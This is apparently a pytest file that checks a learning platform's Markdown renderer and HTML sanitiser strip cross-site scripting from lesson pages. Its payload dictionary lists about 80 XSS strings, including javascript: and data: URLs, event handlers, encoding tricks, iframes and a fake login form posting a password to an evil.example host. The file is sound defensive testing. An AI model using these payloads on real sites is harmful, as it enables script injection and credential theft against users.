"""No script reaches a learner's page: XSS payloads through render_markdown, checked by parsing the output."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from lms.core.render import render_markdown
from lms.core.sanitise import VIDEO_EMBED_PREFIXES, sanitise_html

FORBIDDEN_TAGS = {"script", "style", "object", "embed", "form", "meta", "base", "svg", "math", "link", "input",
                  "textarea", "button", "select", "applet", "frame", "frameset", "body", "html", "head", "noscript",
                  "template", "use", "xml"}
FORBIDDEN_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "poster", "background", "srcset", "data", "srcdoc",
}
# How a browser reads the start of a URL (WHATWG URL standard): leading and trailing
# C0 controls and spaces are stripped, tabs and newlines are removed everywhere. Removing
# every C0 control anywhere is a little stricter than browsers, which is the safe side.
_EDGES = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$")
_INSIDE = re.compile(r"[\x00-\x1f]+")

PAYLOADS = {
    # <script> in various spellings
    "script": "<script>alert(1)</script>",
    "script upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script mixed case with src": '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
    "script nested to survive one pass": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with attributes and newline": '<script\ntype="text/javascript">alert(1)</script>',
    "script in an html comment": "<!-- --><script>alert(1)</script><!-- -->",
    "script after a fake closing comment": "<!--><script>alert(1)</script>-->",
    "script url-encoded": "%3Cscript%3Ealert(1)%3C/script%3E",
    "script entity-encoded": "&lt;script&gt;alert(1)&lt;/script&gt;",
    # event handlers
    "img onerror": "<img src=x onerror=alert(1)>",
    "img ONERROR upper case": '<img src="x" ONERROR="alert(1)">',
    "img onerror with slash separator": "<img/src=x/onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "svg use href data": '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"></use></svg>',
    "svg use xlink:href": '<svg><use xlink:href="javascript:alert(1)"></use></svg>',
    "p onclick": '<p onclick="alert(1)">click me</p>',
    "details ontoggle": "<details open ontoggle=alert(1)><summary>more</summary>hidden</details>",
    "a ONMOUSEOVER mixed case": '<a href="https://example.org" ONMOUSEOVER="alert(1)">hover</a>',
    "div onmouseover with allowed class": '<div class="video" onmouseover="alert(1)">v</div>',
    "body onload": "<body onload=alert(1)>",
    "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "table background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # dangerous URLs in links
    "href javascript": '<a href="javascript:alert(1)">x</a>',
    "href JaVaScRiPt mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href decimal entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "href decimal entity without semicolons":
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    "href hex entities": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    "href named entity colon": '<a href="javascript&colon;alert(1)">x</a>',
    "href tab inside scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href newline inside scheme": '<a href="java\nscript:alert(1)">x</a>',
    "href leading space": '<a href=" javascript:alert(1)">x</a>',
    "href leading control char": '<a href="\x01javascript:alert(1)">x</a>',
    "href data html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "href vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "img src vbscript": '<img src="vbscript:msgbox(1)">',
    "img src javascript": '<img src="javascript:alert(1)">',
    # frames
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "iframe other host": '<iframe src="https://evil.example/embed/x"></iframe>',
    "iframe look-alike host": '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>',
    "iframe youtube without nocookie": '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    "iframe http downgrade": '<iframe src="http://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe allowed src with onload": '<iframe src="https://player.vimeo.com/video/1" onload="alert(1)"></iframe>',
    "script inside iframe": "<iframe><script>alert(1)</script></iframe>",
    "markup inside allowed iframe":
        '<iframe src="https://www.youtube-nocookie.com/embed/abcdefg"><img src=x onerror=alert(1)></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    # plugins, styles, forms, document-level tags
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="Evil.class"></applet>',
    "style expression": "<style>body{background:expression(alert(1))}</style>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute expression": '<p style="width:expression(alert(1))">styled</p>',
    "link stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "form action": '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="https://evil.example/">',
    "math with style mutation":
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "noscript title mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script></template>",
    "class smuggling": '<code class="x onclick=alert(1)">c</code>',
    # the same through Markdown syntax
    "markdown link javascript": "[x](javascript:alert(1))",
    "markdown link JAVASCRIPT": "[x](JAVASCRIPT:alert(1))",
    "markdown link entity": "[x](&#106;avascript:alert(1))",
    "markdown link angle brackets": "[x](<javascript:alert(1)>)",
    "markdown link data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown reference link": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "markdown image javascript": "![x](javascript:alert(1))",
    "markdown image data svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown autolink javascript": "<javascript:alert(1)>",
    "markdown link quote breaking": '[x](https://example.org" onmouseover="alert(1))',
    "markdown image quote breaking": '![x" onerror="alert(1)](https://example.org/a.png)',
    "markdown link title breaking": '[x](https://example.org "a" onclick="alert(1)")',
    # attributes injected through broken quoting
    "broken quoting double": '<img src="x" alt="y"" onerror="alert(1)">',
    "broken quoting backtick": "<img src=x alt=`y`onerror=alert(1)>",
    "unquoted attribute swallowing": "<a href=https://example.org onclick=alert(1)>x</a>",
    "img with href and onerror": '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    # through the video embed
    "video link text with quotes": '[" onload="alert(1)](https://youtu.be/dQw4w9WgXcQ)',
    "video link text with script": "[<script>alert(1)</script>](https://youtu.be/dQw4w9WgXcQ)",
    "video url with injected quote": 'https://youtu.be/dQw4w9WgXcQ"onload="alert(1)',
}


class Elements(HTMLParser):
    """Every start tag as (tag, [(attribute, value)]), plus the text, from an HTML string."""

    def __init__(self, html_text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text_parts: list[str] = []
        self.feed(html_text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text_parts.append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self.text_parts).split())


def url_scheme_view(value: str) -> str:
    """What a browser makes of a URL: entities decoded, surrounding whitespace and control characters gone."""
    return _INSIDE.sub("", _EDGES.sub("", html.unescape(value))).lower()


def assert_harmless(output: str) -> None:
    page = Elements(output)
    for tag, attrs in page.tags:
        assert tag not in FORBIDDEN_TAGS, f"<{tag}> survived in {output!r}"
        for name, value in attrs:
            assert not name.lower().startswith("on"), f"{name}= on <{tag}> survived in {output!r}"
            assert name.lower() not in {"style", "srcdoc", "formaction", "action"}, f"{name}= on <{tag}> in {output!r}"
            if name.lower() in URL_ATTRIBUTES and value is not None:
                assert not url_scheme_view(value).startswith(FORBIDDEN_SCHEMES), f"{name}={value!r} in {output!r}"
            if tag == "iframe" and name == "src":
                assert (value or "").startswith(VIDEO_EMBED_PREFIXES), f"iframe to {value!r} in {output!r}"


def test_every_harmless_line_is_kept_and_no_script_survives_when_all_payloads_share_one_lesson():
    # Payloads can combine (a tag left open by one swallowing the next), so they are also tried together,
    # each followed by a line of ordinary text the learner must still see, in order.
    lines = [f"Harmless line {number}." for number in range(len(PAYLOADS))]
    lesson = "\n\n".join(f"{payload}\n\n{line}" for payload, line in zip(PAYLOADS.values(), lines))
    output = render_markdown(f"Lesson start.\n\n{lesson}\n\nLesson end.", asset_base="/assets/demo/")

    assert_harmless(output)
    text = Elements(output).text
    assert text.startswith("Lesson start.") and text.endswith("Lesson end."), output
    assert re.findall(r"Harmless line \d+\.", text) == lines, output


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_is_neutralised_when_it_sits_between_safe_paragraphs(payload):
    output = render_markdown(f"safe text\n\n{payload}\n\nmore safe text", asset_base="/assets/demo/")

    assert_harmless(output)
    text = Elements(output).text
    assert text.startswith("safe text") and text.endswith("more safe text"), output


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_is_neutralised_when_it_sits_inside_a_sentence(payload):
    output = render_markdown(f"Some safe text. Read this: {payload} and carry on.", asset_base="/assets/demo/")

    assert_harmless(output)
    assert Elements(output).text.startswith("Some safe text. Read this:"), output


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_is_neutralised_when_it_is_inside_a_table_cell(payload):
    cell = payload.replace("\n", " ").replace("|", "&#124;")
    output = render_markdown(f"| Column |\n| --- |\n| safe text {cell} |\n", asset_base="/assets/demo/")

    assert_harmless(output)
    assert "safe text" in Elements(output).text, output


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_sanitiser_neutralises_payload_when_given_raw_html(payload):
    # The last line of defence on its own, for HTML that did not come through Markdown.
    output = sanitise_html(f"<p>safe text</p>{payload}<p>more safe text</p>")

    assert_harmless(output)
    assert "safe text" in Elements(output).text, output


def test_script_is_dropped_when_an_iframe_is_left_open_before_it():
    # An unclosed iframe swallows the rest of the text (browsers do the same), script included.
    output = render_markdown(
        'safe text\n\n<iframe src="https://player.vimeo.com/video/1"><script>alert(1)</script>\n\nlost text',
        asset_base="",
    )

    assert_harmless(output)
    assert Elements(output).text == "safe text"


def test_checker_catches_a_payload_when_html_is_not_sanitised():
    # The assertions above can fail: they reject the raw payloads themselves.
    caught = 0
    for payload in PAYLOADS.values():
        try:
            assert_harmless(payload)
        except AssertionError:
            caught += 1
    assert caught >= 30


@pytest.mark.parametrize(
    ("markdown", "tag", "attribute", "value"),
    [
        ("[Careers](https://example.org/careers)", "a", "href", "https://example.org/careers"),
        ("[Write to us](mailto:team@example.org)", "a", "href", "mailto:team@example.org"),
        ("[Section](#pathways)", "a", "href", "#pathways"),
        ("![Chart](chart.png)", "img", "src", "/assets/demo/chart.png"),
        ("https://youtu.be/dQw4w9WgXcQ", "iframe", "src", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
    ],
)
def test_safe_url_is_kept_when_scheme_is_allowed(markdown, tag, attribute, value):
    page = Elements(render_markdown(markdown, asset_base="/assets/demo/"))

    assert (tag, value) in [(t, dict(a).get(attribute)) for t, a in page.tags]


def test_ordinary_formatting_survives_when_sanitised():
    output = render_markdown(
        "Some **bold**, *italic*, `code` and a [link](https://example.org).\n\n"
        "> a quote\n\n- one\n- two\n\n<details><summary>More</summary>hidden detail</details>\n",
        asset_base="",
    )

    tags = [t for t, _ in Elements(output).tags]
    for expected in ("strong", "em", "code", "a", "blockquote", "ul", "li", "details", "summary"):
        assert expected in tags, f"<{expected}> was stripped from {output!r}"
